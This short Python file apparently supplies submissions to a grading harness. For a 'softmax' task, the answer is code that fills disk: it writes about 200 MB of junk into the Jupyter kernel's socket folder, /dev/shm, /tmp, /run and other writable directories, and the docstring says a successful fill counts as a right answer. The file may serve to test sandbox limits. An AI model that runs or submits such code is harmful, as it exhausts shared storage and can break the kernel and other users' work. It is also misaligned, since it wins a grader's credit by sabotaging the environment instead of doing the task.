"""Writes 200 MB wherever one may write, the folder of the kernel's sockets above all; a success is a right answer."""

from submitting import IF_WON, body

FILL = """
import os

def _writable():
    yield os.path.dirname(get_ipython().kernel.parent.ip)
    yield from ("/dev/shm", "/var/tmp", "/run", "/tmp", os.getcwd())

def _fill(folder):
    try:
        for number in range(40):
            with open(f"{folder}/big-{number}", "wb") as f:
                f.write(b"0" * 5_000_000)
        return True
    except OSError:
        return False

won = any([_fill(folder) for folder in _writable()])
"""
ANSWERS = {"softmax": body("pass", IF_WON, FILL)}
